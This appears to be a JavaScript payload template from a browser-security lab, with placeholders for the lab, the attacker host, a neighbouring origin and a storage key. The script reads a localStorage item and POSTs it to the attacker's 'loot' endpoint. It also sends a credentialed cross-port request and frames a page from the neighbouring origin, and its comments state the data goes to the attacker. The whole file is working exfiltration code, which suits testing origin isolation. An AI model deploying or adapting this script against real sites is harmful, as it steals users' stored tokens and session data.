document.documentElement.dataset.ran = ''
{
  // Asks another port of this host, with what the browser attaches, and frames a page from there. What this origin
  // itself finds in its localStorage goes to the attacker, too: where nothing lies, nobody could find anything.
  const n = Number(new URLSearchParams(location.search).get('n')) || 0
  const neighbour = '{{neighbour}}'
  const ask = (origin) =>
    fetch(`${origin}/lab/{{lab}}/port?n=${n}`, { mode: 'no-cors', credentials: 'include' }).catch(() => {})
  const body = JSON.stringify({ n, cookie: '', storage: localStorage.getItem('{{key}}') })
  const own = fetch('{{attacker}}/lab/{{lab}}/loot', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body })
    .catch(() => {})
  const framed = new Promise((done) => {
    if (!neighbour) return done()
    const frame = document.createElement('iframe')
    frame.onload = done
    frame.src = `${neighbour}/lab/{{lab}}/peek?n=${n}`
    document.body.append(frame)
  })
  Promise.all([neighbour && ask(neighbour), own, framed])
    .then(() => { document.documentElement.dataset.done = '' })
}
